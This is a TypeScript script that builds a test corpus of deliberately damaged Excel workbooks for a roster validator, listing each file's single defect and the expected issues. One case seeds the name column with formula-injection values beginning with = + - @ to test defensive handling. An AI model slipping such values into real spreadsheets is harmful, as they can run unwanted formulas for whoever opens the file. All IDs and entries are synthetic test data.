// The bad-input corpus: one small valid workbook (8 people, the seed's rate sheet and budget)
// and, for each case, a copy with exactly one kind of damage plus the issues it must produce.
// Deterministic, byte for byte (zip entry times are fixed); the tests regenerate the files into
// a temp dir on every run and check that two builds are identical.
// Run: npx tsx test/corpus/build.ts [DIR]   (writes the .xlsx files and cases.json)
import * as fs from "fs";
import * as path from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import type { Cell, IssueCode } from "../../src/core/types";
import { buildWorkbook, SheetSpec } from "../../scripts/book-spec";
import { sampleSheets } from "../../scripts/make-samples";
import { checkDigit } from "../../src/core/idcard";
import { dayToSerial } from "../../src/core/dates";

export interface ExpectedIssue {
  code: IssueCode;
  sheet: string;
  /** A1 cell; absent for sheet-level issues. */
  cell?: string;
  /** A fragment the Chinese message must contain (where the wording matters). */
  says?: string;
}

export interface CorpusCase {
  file: string;
  /** The one kind of damage, in a few words. */
  damage: string;
  /** CLI exit code without --force (0 generated, 1 errors, 2 unreadable). */
  exit: 0 | 1 | 2;
  /** Every issue of the JSON report, as code + sheet + cell (order-free, exact). */
  expected: ExpectedIssue[];
  /** Headcount per programme code in the JSON allocation, where it matters. */
  headcounts?: Record<string, number>;
  /** For exit 2: a fragment of the one-line reason on stderr. */
  reason?: string;
  /** The payers of the JSON allocation (totals.byPayer keys), where it matters. */
  payers?: string[];
}

interface Made {
  sheets?: SheetSpec[];
  /** Raw edits after the sheets are laid out (merges, number formats). */
  post?: (wb: ExcelJS.Workbook) => void;
  /** Not a workbook at all: these bytes are the file. */
  bytes?: Buffer;
}

export interface CaseDef extends CorpusCase {
  make: () => Made | Promise<Made>;
}

// ---------------------------------------------------------------- the valid base workbook

/** A checksum-valid ID from region 530402, a birth date (yyyymmdd) and a 3-digit order. */
export function idOf(birth: string, order: string, region = "530402"): string {
  const body = region + birth + order;
  return body + checkDigit(body);
}

const d = (y: number, m: number, day: number) => dayToSerial({ y, m, d: day });

/** Sheet rows 3..10 (title row 1, header row 2). Columns A..L as in ROSTER_HEADER. */
export function baseRoster(): Cell[][] {
  const rows: Cell[][] = [
    [
      "张伟",
      "男",
      idOf("19850312", "011"),
      "玉溪高新区管委会",
      "是",
      "企业一线职工",
      "W1",
      "第1批",
      d(2024, 7, 10),
      "13812345678",
      "",
    ],
    [
      "李娜",
      "女",
      idOf("19900521", "022"),
      "玉溪某机械制造厂",
      "否",
      "事业单位干部职工",
      "W1",
      "第1批",
      d(2024, 8, 5),
      "13912345678",
      "",
    ],
    [
      "王强",
      "男",
      idOf("19820115", "033"),
      "云南玉溪某制药有限公司",
      "是",
      "技术能手",
      "W2",
      "第1批",
      d(2024, 9, 1),
      "15012345678",
      "",
    ],
    [
      "刘芳",
      "女",
      idOf("19880808", "044"),
      "玉溪某快递网点",
      "是",
      "快递会员",
      "W3",
      "第1批",
      d(2024, 6, 20),
      "18612345678",
      "",
    ],
    [
      "陈杰",
      "男",
      idOf("19790401", "055"),
      "高新区社区卫生服务中心",
      "否",
      "城市困难职工解困脱困工作人员",
      "W4",
      "第1批",
      d(2024, 10, 8),
      "17712345678",
      "",
    ],
    [
      "杨敏",
      "女",
      idOf("19920229", "066"),
      "高新区某电子科技公司",
      "是",
      "在职职工会员、劳模",
      "N1",
      "第2批",
      d(2024, 9, 15),
      "19912345678",
      "",
    ],
    [
      "赵磊",
      "男",
      idOf("19870630", "077"),
      "玉溪某建设集团",
      "是",
      "在职职工会员",
      "市内疗休养",
      "第2批",
      d(2024, 11, 20),
      "13712345678",
      "",
    ],
    [
      "黄丽",
      "女",
      idOf("19950909", "088"),
      "高新区某食品公司",
      "是",
      "机关干部职工",
      "W1",
      "第2批",
      d(2024, 6, 1),
      "13612345678",
      "",
    ],
  ];
  return rows.map((r, i) => [i + 1, ...r]);
}

export const BASE_HEADCOUNTS = { W1: 3, W2: 1, W3: 1, W4: 1, N1: 2 };

/** 花名册, 项目费率, 预算 — the valid base. */
export function baseSheets(): SheetSpec[] {
  // Deep copies: the sample's budget rows are a shared constant, and cases edit rows in place.
  return sampleSheets(baseRoster()).map((s) => ({
    ...s,
    header: [...s.header],
    rows: s.rows.map((r) => [...r]),
  }));
}

// Column indexes in the base sheets (0-based, values arrays).
const R = {
  seq: 0,
  name: 1,
  gender: 2,
  id: 3,
  unit: 4,
  member: 5,
  cats: 6,
  program: 7,
  batch: 8,
  date: 9,
  phone: 10,
  note: 11,
};
const T = {
  code: 0,
  name: 1,
  start: 4,
  end: 5,
  quota: 6,
  per: 7,
  prov: 8,
  city: 9,
  own: 10,
  transport: 11,
  priority: 14,
};
/** Base rate rows by code → index. */
const P = { W1: 0, W2: 1, W3: 2, W4: 3, N1: 4 };

type Sheets = SheetSpec[];
/** A roster row (12 columns) holding only the given cells. */
const rosterLine = (cells: Record<number, Cell>): Cell[] =>
  Array.from({ length: 12 }, (_, c) => cells[c] ?? null);
const sheet = (s: Sheets, name: string) => s.find((x) => x.name === name)!;
const roster = (s: Sheets) => sheet(s, "花名册");
const rates = (s: Sheets) => sheet(s, "项目费率");

/** The base with one edit applied. */
function edit(fn: (s: Sheets) => void): () => Made {
  return () => {
    const s = baseSheets();
    fn(s);
    return { sheets: s };
  };
}
const setRoster = (k: number, col: number, v: Cell) => edit((s) => (roster(s).rows[k][col] = v));
const setRate = (code: keyof typeof P, col: number, v: Cell) =>
  edit((s) => (rates(s).rows[P[code]][col] = v));

const id0 = () => baseRoster()[0][R.id] as string;
const id1 = () => baseRoster()[1][R.id] as string;

const ROSTER_REQUIRED = ["姓名", "身份证号", "工作单位", "是否会员", "人员类别", "疗休养项目"];
const headerMissing = (sheetName: string, n = ROSTER_REQUIRED.length): ExpectedIssue[] =>
  new Array(n).fill(0).map(() => ({ code: "HEADER_MISSING" as IssueCode, sheet: sheetName }));
const at = (code: IssueCode, cell: string, sheetName = "花名册", says?: string): ExpectedIssue => ({
  code,
  sheet: sheetName,
  cell,
  ...(says ? { says } : {}),
});

// ---------------------------------------------------------------- the cases

export const CASES: CaseDef[] = [
  // --- the valid base itself, so every damage is measured against a clean run
  {
    file: "00-base-valid.xlsx",
    damage: "none (the valid base)",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit(() => {}),
  },

  // --- missing sheets
  {
    file: "sheet-missing-roster.xlsx",
    damage: "no roster sheet",
    exit: 1,
    expected: [{ code: "SHEET_MISSING", sheet: "花名册" }],
    headcounts: { W1: 0, N1: 0 },
    make: edit((s) => s.splice(0, 1)),
  },
  {
    file: "sheet-missing-rates.xlsx",
    damage: "no rate sheet",
    exit: 1,
    expected: [{ code: "SHEET_MISSING", sheet: "项目费率" }],
    make: edit((s) => s.splice(1, 1)),
  },
  {
    file: "sheet-missing-both.xlsx",
    damage: "only an unrelated sheet and the budget",
    exit: 1,
    expected: [
      { code: "SHEET_MISSING", sheet: "花名册" },
      { code: "SHEET_MISSING", sheet: "项目费率" },
    ],
    make: edit((s) =>
      s.splice(0, 2, { name: "说明", header: ["本工作簿用于汇总"], rows: [["请勿删除"]] })
    ),
  },
  {
    file: "roster-sheet-blank.xlsx",
    damage: "花名册 sheet exists but is blank",
    exit: 1,
    expected: headerMissing("花名册"),
    headcounts: { W1: 0 },
    make: edit((s) => (s[0] = { name: "花名册", header: [], rows: [] })),
  },
  {
    file: "roster-header-only.xlsx",
    damage: "empty roster (header, no people)",
    exit: 0,
    expected: [],
    headcounts: { W1: 0, W2: 0, W3: 0, W4: 0, N1: 0 },
    make: edit((s) => (roster(s).rows = [])),
  },
  {
    file: "roster-one-row.xlsx",
    damage: "a roster of one row",
    exit: 0,
    expected: [],
    headcounts: { W1: 1, W2: 0, N1: 0 },
    make: edit((s) => (roster(s).rows = roster(s).rows.slice(0, 1))),
  },

  // --- layout: header position, header spelling, column order, blank rows
  {
    file: "header-row5-merged-title.xlsx",
    damage:
      "roster header on row 5 under a title merged over rows 1-4 (sentinel: bad check digit, 2nd person)",
    exit: 1,
    expected: [at("ID_CHECKSUM", "D7")],
    headcounts: BASE_HEADCOUNTS,
    make: () => {
      const s = baseSheets();
      const r = roster(s);
      r.rows[1][R.id] = flipCheck(r.rows[1][R.id] as string);
      r.title = undefined;
      r.blankRowsAbove = 4;
      return {
        sheets: s,
        post: (wb) => {
          const ws = wb.getWorksheet("花名册")!;
          ws.getCell("A1").value = "高新区总工会2024年职工疗休养花名册";
          ws.mergeCells("A1:L4");
        },
      };
    },
  },
  {
    file: "rates-header-row5-merged-title.xlsx",
    damage: "rate sheet header on row 5 under a merged title",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: () => {
      const s = baseSheets();
      const t = rates(s);
      t.title = undefined;
      t.blankRowsAbove = 4;
      return {
        sheets: s,
        post: (wb) => {
          const ws = wb.getWorksheet("项目费率")!;
          ws.getCell("A1").value = "2024年疗休养项目及经费分摊标准";
          ws.mergeCells("A1:P4");
        },
      };
    },
  },
  {
    file: "headers-fullwidth-spaces-units.xlsx",
    damage:
      "headers with full-width letters, spaces and units （元） (sentinel: bad check digit, 1st person)",
    exit: 1,
    expected: [at("ID_CHECKSUM", "D3")],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const r = roster(s);
      r.header = [
        "序　号",
        "姓 名",
        "性别",
        "身份证号码（18位）",
        " 工作单位 ",
        "是否会员（Ｙ/Ｎ）",
        "人员类别",
        "疗休养项目（编号）",
        "批次",
        "疗休养日期",
        "联系电话（ＴＥＬ）",
        "备注",
      ];
      r.rows[0][R.id] = flipCheck(r.rows[0][R.id] as string);
      const t = rates(s);
      t.header = t.header.map((h) =>
        h === "名额"
          ? "名　额（人）"
          : h === "人均标准（元）"
            ? "人均标准（元/人）"
            : h === "省总工会承担"
              ? "省总工会承担（元）"
              : h === "往返交通费（元）"
                ? "往返交通费 （元）"
                : h === "项目编号"
                  ? "＊项目编号"
                  : h
      );
    }),
  },
  {
    file: "columns-reversed.xlsx",
    damage: "roster columns in reverse order (sentinel: bad check digit, 3rd person)",
    exit: 1,
    expected: [at("ID_CHECKSUM", "I5")],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const r = roster(s);
      r.rows[2][R.id] = flipCheck(r.rows[2][R.id] as string);
      r.header = [...r.header].reverse();
      r.rows = r.rows.map((row) => [...row].reverse());
      r.widths = undefined;
    }),
  },
  {
    file: "blank-and-whitespace-rows.xlsx",
    damage:
      "a blank row and a whitespace-only row inside the roster (sentinel: bad check digit after them)",
    exit: 1,
    expected: [at("ID_CHECKSUM", "D8")],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const r = roster(s);
      r.rows[3][R.id] = flipCheck(r.rows[3][R.id] as string);
      const ws: Cell[] = [
        null,
        "   ",
        "\u3000",
        " ",
        "\t",
        "",
        "  ",
        "\u00a0",
        null,
        null,
        " ",
        null,
      ];
      r.rows.splice(3, 0, new Array(12).fill(null), ws);
      r.rows.push(new Array(12).fill(null), [
        "  ",
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
      ]);
    }),
  },
  {
    file: "footer-rows.xlsx",
    damage: "合计 and 制表人 footer rows under the roster",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) =>
      roster(s).rows.push(
        ["合计", "8人", null, null, null, null, null, null, null, null, null, null],
        ["制表人：张三", null, null, null, null, null, null, null, null, null, null, null]
      )
    ),
  },
  {
    file: "footer-signatures.xlsx",
    damage: "经办人, 单位负责人, 填报日期 and （单位盖章） lines under the roster, as forms end",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) =>
      roster(s).rows.push(
        rosterLine({ [R.name]: "经办人：张三    联系电话：13800000000" }),
        rosterLine({ [R.name]: "单位负责人：李四" }),
        rosterLine({ [R.name]: "填报日期：2024年5月20日" }),
        rosterLine({ [R.program]: "（单位盖章）" })
      )
    ),
  },
  {
    file: "template-rows.xlsx",
    damage:
      'a form numbered down in advance: rows below the people hold only a 序号 (some with "" beside it, as =IF(…,"",…) shows)',
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const rows = roster(s).rows;
      const next = rows.length - 1;
      for (let k = 0; k < 40; k++)
        rows.push(rosterLine({ [R.seq]: next + k, [R.name]: k % 2 ? "" : null, [R.id]: "" }));
    }),
  },
  {
    file: "header-missing-unit.xlsx",
    damage: "no 工作单位 column",
    exit: 1,
    expected: [{ code: "HEADER_MISSING", sheet: "花名册" }],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => dropColumn(roster(s), R.unit)),
  },
  {
    file: "header-below-10-rows.xlsx",
    damage: "roster header under 10 lines of notes (beyond the 10 non-blank rows scanned)",
    exit: 1,
    expected: headerMissing("花名册"),
    headcounts: { W1: 0 },
    make: () => {
      const s = baseSheets();
      roster(s).title = undefined;
      roster(s).blankRowsAbove = 10;
      return { sheets: s, post: (wb) => notesAbove(wb.getWorksheet("花名册")!, 10) };
    },
  },
  {
    file: "blank-rows-above-header.xlsx",
    damage: "11 blank rows above the roster header (Excel's used range starts at the header)",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      roster(s).title = undefined;
      roster(s).blankRowsAbove = 11;
    }),
  },
  {
    file: "rates-no-share-columns.xlsx",
    damage: "rate sheet without any ××承担 column",
    exit: 1,
    expected: [{ code: "HEADER_MISSING", sheet: "项目费率" }],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const t = rates(s);
      for (const c of [T.own, T.city, T.prov]) dropColumn(t, c);
    }),
  },
  {
    file: "merged-unit-cells.xlsx",
    damage:
      "工作单位 merged over the first two people (Excel gives the value to the top cell only)",
    exit: 1,
    expected: [at("MISSING_REQUIRED", "E4")],
    headcounts: BASE_HEADCOUNTS,
    make: () => ({
      sheets: baseSheets(),
      post: (wb) => wb.getWorksheet("花名册")!.mergeCells("E3:E4"),
    }),
  },

  // --- ID numbers
  {
    file: "id-as-number.xlsx",
    damage: "ID typed as a number (Excel keeps 15 digits)",
    exit: 1,
    expected: [at("ID_NUMERIC_PRECISION", "D4", "花名册", "Excel只保留15位有效数字")],
    make: setRoster(1, R.id, Number(id1().slice(0, 15) + "000")),
  },
  {
    file: "id-lowercase-x.xlsx",
    damage: "ID ending in a lowercase x",
    exit: 0,
    expected: [],
    make: setRoster(0, R.id, "53040219850312019x"),
  },
  {
    file: "id-fullwidth-digits.xlsx",
    damage: "ID in full-width digits",
    exit: 0,
    expected: [],
    make: setRoster(1, R.id, toFullWidth(id1())),
  },
  {
    file: "id-surrounding-spaces.xlsx",
    damage: "ID with leading/trailing spaces, an ideographic space and a leading apostrophe",
    exit: 0,
    expected: [],
    make: edit(
      (s) => (
        (roster(s).rows[0][R.id] = "  " + id0() + "\u3000"),
        (roster(s).rows[1][R.id] = "'" + id1())
      )
    ),
  },
  {
    file: "id-inner-spaces.xlsx",
    damage: "ID with spaces inside",
    exit: 1,
    expected: [at("ID_FORMAT", "D4", "花名册", "不是18位")],
    make: setRoster(1, R.id, `${id1().slice(0, 6)} ${id1().slice(6, 14)} ${id1().slice(14)}`),
  },
  {
    file: "id-inner-dashes.xlsx",
    damage: "ID with dashes inside",
    exit: 1,
    expected: [at("ID_FORMAT", "D4")],
    make: setRoster(1, R.id, `${id1().slice(0, 6)}-${id1().slice(6, 14)}-${id1().slice(14)}`),
  },
  {
    file: "id-15-digit-text.xlsx",
    damage: "first-generation 15-digit ID as text",
    exit: 0,
    expected: [at("ID_15_DIGIT", "D3")],
    make: setRoster(0, R.id, "530402850312011"),
  },
  {
    file: "id-15-digit-number.xlsx",
    damage: "15-digit ID typed as a number",
    exit: 0,
    expected: [at("ID_15_DIGIT", "D3")],
    make: setRoster(0, R.id, 530402850312011),
  },
  {
    file: "id-17-digits.xlsx",
    damage: "ID one digit short",
    exit: 1,
    expected: [at("ID_FORMAT", "D4")],
    make: setRoster(1, R.id, id1().slice(0, 17)),
  },
  {
    file: "id-letters.xlsx",
    damage: "ID that is not a number at all",
    exit: 1,
    expected: [at("ID_FORMAT", "D4")],
    make: setRoster(1, R.id, "护照E12345678"),
  },
  {
    file: "id-impossible-birthdate.xlsx",
    damage: "ID with birth date 1990-02-30",
    exit: 1,
    expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期不存在（第7至14位为19900230）")],
    make: setRoster(1, R.id, idOf("19900230", "022")),
  },
  {
    file: "id-future-birthdate.xlsx",
    damage: "ID with birth date 2090-01-01",
    exit: 1,
    expected: [at("ID_BIRTHDATE", "D4", "花名册", "出生日期在未来（第7至14位为20900101）")],
    make: setRoster(1, R.id, idOf("20900101", "022")),
  },
  {
    file: "id-checksum.xlsx",
    damage: "ID with a wrong check digit",
    exit: 1,
    expected: [at("ID_CHECKSUM", "D4")],
    make: setRoster(1, R.id, flipCheck(id1())),
  },
  {
    file: "id-blank.xlsx",
    damage: "ID cell left blank",
    exit: 1,
    expected: [at("MISSING_REQUIRED", "D4")],
    make: setRoster(1, R.id, null),
  },
  {
    file: "id-duplicate-spelled-differently.xlsx",
    damage: "the same person twice, ID once with X and once with x",
    exit: 1,
    expected: [at("DUPLICATE_ID", "D3"), at("DUPLICATE_ID", "D10")],
    make: edit((s) => {
      roster(s).rows[0][R.id] = "53040219850312019X";
      roster(s).rows[7][R.id] = "53040219850312019x";
      roster(s).rows[7][R.gender] = "男"; // keep the one damage: no gender mismatch on top
    }),
  },
  {
    file: "id-duplicate-15-and-18.xlsx",
    damage: "the same person under an 18-digit and a 15-digit ID",
    exit: 1,
    expected: [at("DUPLICATE_ID", "D3"), at("ID_15_DIGIT", "D10"), at("DUPLICATE_ID", "D10")],
    make: edit((s) => {
      roster(s).rows[7][R.id] = "530402850312011";
      roster(s).rows[7][R.gender] = "男";
    }),
  },

  // --- names and other text
  {
    file: "names-formula-injection.xlsx",
    damage: "names starting with = + - @",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const r = roster(s);
      INJECTION_NAMES.forEach((n, k) => (r.rows[k][R.name] = n));
    }),
  },
  {
    file: "gender-mismatch.xlsx",
    damage: "性别 disagrees with the ID",
    exit: 0,
    expected: [at("GENDER_MISMATCH", "C3")],
    make: setRoster(0, R.gender, "女"),
  },
  {
    file: "phone-format.xlsx",
    damage: "a 7-digit phone number",
    exit: 0,
    expected: [at("PHONE_FORMAT", "K3")],
    make: setRoster(0, R.phone, "1381234"),
  },
  {
    file: "unit-blank.xlsx",
    damage: "工作单位 blank",
    exit: 1,
    expected: [at("MISSING_REQUIRED", "E5")],
    make: setRoster(2, R.unit, "  "),
  },
  {
    file: "possible-duplicate.xlsx",
    damage: "same name and unit under two different IDs",
    exit: 0,
    expected: [at("POSSIBLE_DUPLICATE", "B3"), at("POSSIBLE_DUPLICATE", "B10")],
    make: edit((s) => {
      const r = roster(s);
      r.rows[7][R.name] = "张伟";
      r.rows[7][R.unit] = "玉溪高新区管委会";
    }),
  },

  // --- sheet names
  {
    file: "sheet-names-spaces-apostrophes.xlsx",
    damage: "roster named It's 花名册 2024, rate sheet named 项目 费率",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      roster(s).name = "It's 花名册 2024";
      s[1].name = "项目 费率";
    }),
  },

  // --- rate cells
  {
    file: "rate-divide-by-zero.xlsx",
    damage: "share 1/0",
    exit: 1,
    expected: [at("RATE_INVALID", "I7", "项目费率")],
    headcounts: BASE_HEADCOUNTS,
    make: setRate("N1", T.prov, "1/0"),
  },
  {
    file: "rate-abc.xlsx",
    damage: "share abc",
    exit: 1,
    expected: [at("RATE_INVALID", "I3", "项目费率")],
    make: setRate("W1", T.prov, "abc"),
  },
  {
    file: "rate-unicode-minus.xlsx",
    damage: "per-person cost −3000 (Unicode minus, as text)",
    exit: 1,
    expected: [at("RATE_INVALID", "H3", "项目费率", "不能为负数")],
    make: setRate("W1", T.per, "−3000"),
  },
  {
    file: "rate-negative-number.xlsx",
    damage: "share −800 as a number",
    exit: 1,
    expected: [at("RATE_INVALID", "K3", "项目费率")],
    make: setRate("W1", T.own, -800),
  },
  {
    file: "rate-110-percent.xlsx",
    damage: "share 110%",
    exit: 1,
    expected: [at("RATE_INVALID", "J7", "项目费率")],
    make: setRate("N1", T.city, "110%"),
  },
  {
    file: "rate-shares-mismatch.xlsx",
    damage: "shares 2000+800 for a 3000 cost",
    exit: 1,
    expected: [at("RATE_SHARES_MISMATCH", "I3", "项目费率")],
    headcounts: BASE_HEADCOUNTS,
    make: setRate("W1", T.prov, 2000),
  },
  {
    file: "rate-two-rest.xlsx",
    damage: "two payers marked 其余",
    exit: 1,
    expected: [at("RATE_INVALID", "K7", "项目费率")],
    make: setRate("N1", T.city, "其余"),
  },
  {
    file: "rate-quota-text.xlsx",
    damage: "名额 written 五十人",
    exit: 1,
    expected: [at("RATE_INVALID", "G3", "项目费率")],
    make: setRate("W1", T.quota, "五十人"),
  },
  {
    file: "rate-per-person-blank.xlsx",
    damage: "人均标准 blank",
    exit: 1,
    expected: [at("MISSING_REQUIRED", "H4", "项目费率")],
    make: setRate("W2", T.per, null),
  },
  {
    file: "rate-duplicate-code.xlsx",
    damage: "programme code W1 on two rows",
    exit: 1,
    expected: [at("RATE_INVALID", "A8", "项目费率")],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => rates(s).rows.push([...rates(s).rows[P.W1]])),
  },
  {
    // Found by the property tests: this used to crash the whole analysis.
    file: "rates-code-header-misspelled.xlsx",
    damage: "rate sheet header 项目代号 instead of 项目编号 (programmes then known by name only)",
    exit: 1,
    expected: [
      { code: "HEADER_MISSING", sheet: "项目费率" },
      ...["H3", "H4", "H5", "H6", "H7", "H8", "H10"].map((c) => at("UNKNOWN_PROGRAM", c)),
    ],
    headcounts: { 市内疗休养: 1 },
    make: edit((s) => (rates(s).header[T.code] = "项目代号")),
  },
  {
    file: "rate-per-person-huge.xlsx",
    damage: "per-person cost 1e308 (overflows when counted in fen)",
    exit: 1,
    expected: [at("RATE_INVALID", "H3", "项目费率")],
    make: setRate("W1", T.per, 1e308),
  },
  {
    file: "payer-latin-letters.xlsx",
    damage:
      "a payer column in Latin letters: ＡＢＣ集团承担 (full-width), transport paid by abc集团",
    exit: 0,
    expected: [],
    payers: ["省总工会", "市总工会", "ABC集团"],
    make: edit((s) => {
      const t = rates(s);
      t.header[T.own] = "ＡＢＣ集团承担";
      t.rows.forEach((r) => (r[T.transport + 1] = "abc集团"));
    }),
  },
  {
    file: "rate-dates-as-text.xlsx",
    damage: "programme windows typed as text: 2024年6月1日, 2024/6/1, 2024.6.1",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const t = rates(s).rows;
      t[P.W1][T.start] = "2024年6月1日";
      t[P.W1][T.end] = "2024年10月31日";
      t[P.W2][T.start] = "2024/6/1";
      t[P.W3][T.start] = "2024.6.1";
      t[P.N1][T.end] = "2024-12-31";
    }),
  },

  // --- programmes in the roster
  {
    file: "program-by-name.xlsx",
    damage: "programme given by its name",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: setRoster(0, R.program, "一线职工疗休养"),
  },
  {
    file: "program-fullwidth-code.xlsx",
    damage: "programme code in full-width letters with a space: Ｗ １",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: setRoster(0, R.program, "ｗ １"),
  },
  {
    file: "program-unknown.xlsx",
    damage: "a programme not in the rate sheet",
    exit: 1,
    expected: [at("UNKNOWN_PROGRAM", "H3")],
    headcounts: { ...BASE_HEADCOUNTS, W1: 2 },
    make: setRoster(0, R.program, "温泉疗养"),
  },
  {
    file: "not-eligible.xlsx",
    damage: "category not in the programme's 参加对象",
    exit: 1,
    expected: [at("NOT_ELIGIBLE", "G3")],
    make: setRoster(0, R.cats, "退休职工"),
  },
  {
    file: "not-member.xlsx",
    damage: "not a member in W3 (membership required)",
    exit: 1,
    expected: [at("NOT_MEMBER", "F6")],
    make: setRoster(3, R.member, "否"),
  },
  {
    file: "member-blank.xlsx",
    damage: "是否会员 blank in W3",
    exit: 1,
    expected: [at("MISSING_REQUIRED", "F6")],
    make: setRoster(3, R.member, null),
  },
  {
    file: "member-booleans.xlsx",
    damage: "是否会员 as TRUE/FALSE booleans (FALSE in W3)",
    exit: 1,
    expected: [at("NOT_MEMBER", "F6")],
    make: edit((s) => roster(s).rows.forEach((row, k) => (row[R.member] = k !== 3))),
  },
  {
    file: "quota-exceeded.xlsx",
    damage: "three people in W4 (名额 2)",
    exit: 1,
    expected: [at("QUOTA_EXCEEDED", "H12", "花名册", "按优先顺序排第3位")],
    // The places, not the sign-ups: MIN(exact count, 名额).
    headcounts: { W4: 2 },
    make: edit((s) => {
      const r = roster(s);
      r.rows.push([
        9,
        "周平",
        "男",
        idOf("19830303", "099"),
        "高新区某物流公司",
        "是",
        "城市困难职工解困脱困工作人员",
        "W4",
        "第1批",
        d(2024, 10, 8),
        "13512345678",
        "",
      ]);
      r.rows.push([
        10,
        "吴霞",
        "女",
        idOf("19860606", "102"),
        "玉溪某烟草配套企业",
        "是",
        "城市困难职工解困脱困工作人员",
        "W4",
        "第1批",
        d(2024, 10, 8),
        "13512345679",
        "",
      ]);
    }),
  },
  {
    file: "retired.xlsx",
    damage: "a man born 1960 (retired before the programme)",
    exit: 0,
    expected: [at("RETIRED", "D3")],
    make: setRoster(0, R.id, idOf("19600312", "011")),
  },
  {
    file: "history-duplicate.xlsx",
    damage: "a person already in the 2024 history sheet",
    exit: 1,
    expected: [at("DUPLICATE_HISTORY", "D3")],
    make: edit((s) =>
      s.push({
        name: "历史记录",
        header: ["姓名", "身份证号", "项目", "年份"],
        rows: [
          ["张伟", id0(), "职工疗休养（外单位）", 2024],
          ["某某", idOf("19700101", "111"), "W1", 2023],
        ],
        textColumns: ["身份证号"],
      })
    ),
  },
  {
    file: "budget-exceeded.xlsx",
    damage: "budget sources smaller than the own union's share",
    exit: 0,
    expected: [{ code: "BUDGET_EXCEEDED", sheet: "预算" }],
    make: edit((s) => (sheet(s, "预算").rows = [["高新区财政年初预算", 10000]])),
  },
  {
    file: "budget-amount-text.xlsx",
    damage: "budget amount 六万 (not a number)",
    exit: 1,
    expected: [at("RATE_INVALID", "B2", "预算", "金额“六万”无法使用")],
    make: edit((s) => (sheet(s, "预算").rows[0][1] = "六万")),
  },

  // --- dates in the roster
  {
    file: "dates-as-text.xlsx",
    damage: "dates typed as text: 2024年6月1日, 2024/6/1, 2024.6.1",
    exit: 0,
    expected: [],
    headcounts: BASE_HEADCOUNTS,
    make: edit((s) => {
      const r = roster(s).rows;
      r[0][R.date] = "2024年6月1日";
      r[1][R.date] = "2024/6/1";
      r[7][R.date] = "2024.6.1";
    }),
  },
  {
    file: "dates-as-serials.xlsx",
    damage: 'dates as bare serial numbers (no date format), one as text "45444"',
    exit: 0,
    expected: [],
    make: edit((s) => {
      roster(s).dateColumns = [];
      roster(s).rows[7][R.date] = "45444";
    }),
  },
  {
    file: "date-outside-window-text.xlsx",
    damage: "2024年11月15日 for W1 (ends 10-31)",
    exit: 1,
    expected: [at("DATE_OUTSIDE_WINDOW", "J3")],
    make: setRoster(0, R.date, "2024年11月15日"),
  },
  {
    file: "date-unreadable.xlsx",
    damage: "date typed as 下月初",
    exit: 1,
    expected: [at("DATE_OUTSIDE_WINDOW", "J3", "花名册", "无法识别日期“下月初”")],
    make: setRoster(0, R.date, "下月初"),
  },
  {
    file: "date-impossible.xlsx",
    damage: "date 2024-02-30",
    exit: 1,
    expected: [at("DATE_OUTSIDE_WINDOW", "J3")],
    make: setRoster(0, R.date, "2024-02-30"),
  },

  // --- files that are not workbooks
  {
    file: "not-a-workbook.xlsx",
    damage: "a CSV text file named .xlsx",
    exit: 2,
    expected: [],
    reason: "不是 .xlsx 工作簿",
    make: () => ({ bytes: Buffer.from("姓名,身份证号\n张伟,530402198503120113\n", "utf8") }),
  },
  {
    file: "empty-file.xlsx",
    damage: "a zero-byte file",
    exit: 2,
    expected: [],
    reason: "文件为空",
    make: () => ({ bytes: Buffer.alloc(0) }),
  },
  {
    file: "corrupt-zip.xlsx",
    damage: "a workbook cut off halfway (corrupt zip)",
    exit: 2,
    expected: [],
    reason: "已损坏",
    make: async () => ({ bytes: truncate(await toBuffer(buildWorkbook(baseSheets()))) }),
  },
  {
    file: "zip-not-workbook.xlsx",
    damage: "a valid zip holding no workbook (e.g. a renamed .docx)",
    exit: 2,
    expected: [],
    reason: "不是 .xlsx 工作簿",
    make: () => ({ bytes: STORED_ZIP }),
  },
  {
    file: "encrypted.xlsx",
    damage: "a password-protected workbook (an OLE compound file, simulated by its header)",
    exit: 2,
    expected: [],
    reason: "已加密",
    make: () => ({ bytes: oleHeader() }),
  },

  // --- who goes when oversubscribed, and the rules that differ between unions (issue 13)
  {
    file: "quota-priority.xlsx",
    damage: "three people in W4 (名额 2), the last a 劳模 listed in W4's 优先对象",
    exit: 1,
    expected: [at("QUOTA_EXCEEDED", "H11", "花名册", "按优先顺序排第3位")],
    headcounts: { W4: 2 },
    make: edit((s) => {
      rates(s).rows[P.W4][T.priority] = "劳模";
      const w4 = roster(s).rows[4];
      roster(s).rows.push(
        [9, "周平", "男", idOf("19830303", "099"), ...w4.slice(R.unit)],
        [
          10,
          "吴霞",
          "女",
          idOf("19860606", "102"),
          w4[R.unit],
          w4[R.member],
          "城市困难职工解困脱困工作人员、劳模",
          ...w4.slice(R.program),
        ]
      );
    }),
  },
  {
    file: "rules-daily-cap.xlsx",
    damage: "a 规则 sheet with 每人每天上限 800 and a 天数 column of 5: W4's 4,500 is above 4,000",
    exit: 1,
